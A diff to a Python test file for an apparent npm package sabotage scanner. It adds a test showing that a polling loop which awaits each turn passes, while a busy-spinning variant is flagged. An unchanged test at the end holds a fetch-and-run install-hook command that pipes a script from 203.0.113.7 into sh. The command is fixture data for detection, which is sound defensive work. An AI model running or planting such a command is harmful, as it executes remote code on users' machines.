@@ -233,6 +233,34 @@ def test_an_endless_loop_at_import_is_sabotage(tmp_path: Path) -> None:
     assert finding.severity is Severity.HIGH and finding.evidence.line == 3
 
 
+# Firefox ESR 153's about:webrtc (aboutWebrtc.mjs in omni.ja) refreshes its page forever
+_POLLING_PAGE = """\
+(async () => {
+  const INTERVAL_MS = 250;
+  async function autorefresh() {
+    await Promise.all(sections.map(s => s.autoUpdate()));
+    return INTERVAL_MS;
+  }
+  let timeout = INTERVAL_MS;
+  while (true) {
+    timeout = await autorefresh();
+    await new Promise(r => setTimeout(r, timeout));
+  }
+})();
+"""
+
+
+def test_an_endless_loop_that_awaits_each_turn_is_a_poll(tmp_path: Path) -> None:
+    polling = npm_package(tmp_path, "webrtcpage", {"index.js": _POLLING_PAGE})
+    assert findings(run_exam(polling, ONLY_BEHAVIOUR), "sab-endless-loop") == []
+    # the same loop calling without waiting never gives the event loop back
+    spinning = _POLLING_PAGE.replace("timeout = await autorefresh();", "autorefresh();").replace(
+        "    await new Promise(r => setTimeout(r, timeout));\n", ""
+    )
+    report = run_exam(npm_package(tmp_path, "webrtcspin", {"index.js": spinning}), ONLY_BEHAVIOUR)
+    assert "sab-endless-loop" in blocking(report)
+
+
 def test_inline_node_scripts_of_install_hooks_and_html_scripts_are_read(tmp_path: Path) -> None:
     command = (
         "node -e \"require('child_process').execSync('curl -s http://203.0.113.7/i.sh | sh')\""
